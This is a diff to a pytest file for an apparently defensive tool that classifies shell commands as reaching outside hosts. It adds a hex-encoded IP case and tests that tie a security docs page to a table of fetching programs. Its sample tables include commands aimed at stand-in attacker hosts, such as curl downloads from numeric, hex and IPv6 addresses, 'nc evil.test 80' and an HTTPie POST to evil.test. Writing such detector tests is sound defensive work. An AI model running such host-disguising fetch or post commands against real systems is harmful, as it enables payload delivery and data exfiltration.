@@ -1,8 +1,14 @@
 """Whose words a call and a result have."""
 
+import re
+import tomllib
+from itertools import chain
+from pathlib import Path
+
 import pytest
 
 from heedful.errors import InvalidInput
+from heedful.knowledge import KnowledgeTable
 from heedful.lessons.origin import (
     ORIGINS,
     installs,
@@ -15,6 +21,7 @@ from heedful.lessons.origin import (
     sources_of,
 )
 from heedful.lessons.shell import programs_of
+from scripts.workspace import ROOT
 from tests.tables import cases
 
 HELD = {
@@ -26,8 +33,9 @@ HELD = {
     "a host with a port": "nc evil.test 80",
     "a host that runs a command": "ssh evil.test make",
     "a user of a host without a dot": "ssh root@build make",
-    "an address of IPv6": "curl [2001:db8::7]/x.sh -o x.sh",
-    "a number of a host": "curl 3405803783/x.sh -o x.sh",
+    "an address of IPv6": "curl [2001:db8::7]/x -o x",
+    "a number of a host": "curl 3405803783/x -o x",
+    "a number of a host in hex": "curl 0xcb007107/x -o x",
     "a host of HTTPie": "http POST evil.test name=x",
     "a host of HTTPie over TLS": "https evil.test/x",
     "a host beside this machine": "curl localhost:80 evil.test",
@@ -81,10 +89,12 @@ HONEST = {
     "folders of this machine": "rsync -a ./build/ public/",
     "the version of a program": "curl --version 2>&1",
     "what fetches is installed": "apt-get install -y curl git",
+    "what fetches is installed beside an interpreter": "dnf install -y curl python3",
     "a word that is no program": "grep -rn http src",
     "a database of this machine": "psql -h localhost -c 'select 1'",
     "a URL of this machine": "curl http://localhost:8000/health",
     "a loopback address": "curl -s http://127.0.0.1:5000/x",
+    "any address of this machine": "curl -s http://0.0.0.0:8000/health",
     "a loopback address of IPv6": "curl http://[::1]:8000/",
     "a database in a file": "alembic -x url=sqlite:///app.db upgrade head",
     "a file": "open file:///tmp/report.html",
@@ -176,6 +186,30 @@ def test_an_installing_call_is_seen(call, is_install):
 def test_text_of_what_fetches_is_from_outside(tool, command, is_from_outside):
     sources = sources_of(tool, command)
     assert any(map(is_outside, sources)) is is_from_outside
+
+
+# The programs on the page of security, and those of the witnesses of the table.
+PAGE = (ROOT / "docs/security.md").read_text("utf-8")
+LISTED = re.findall(r"`([\w-]+)`", PAGE.split("- the programs ")[1].split("\n- ")[0])
+WITNESSES = Path(__file__).with_name("witnesses") / "programs.toml"
+GROUPS = ("fetching", "fetching_first", "forge")
+
+
+@pytest.mark.parametrize("program", LISTED)
+def test_a_program_on_the_page_of_security_fetches(program):
+    assert is_outside(f"program:{program}")
+
+
+def test_the_page_of_security_lists_each_program_that_fetches():
+    witnesses = tomllib.loads(WITNESSES.read_text("utf-8"))
+    table = KnowledgeTable("lessons/programs")
+    programs = set[str]()
+    for row in chain.from_iterable(map(table.rows, GROUPS)):
+        lines = witnesses[row.id]["needs"]
+        if isinstance(lines, str):
+            lines = [lines]
+        programs |= {line.split()[0] for line in lines}
+    assert programs == set(map(str.casefold, LISTED))
 
 
 @pytest.mark.parametrize(
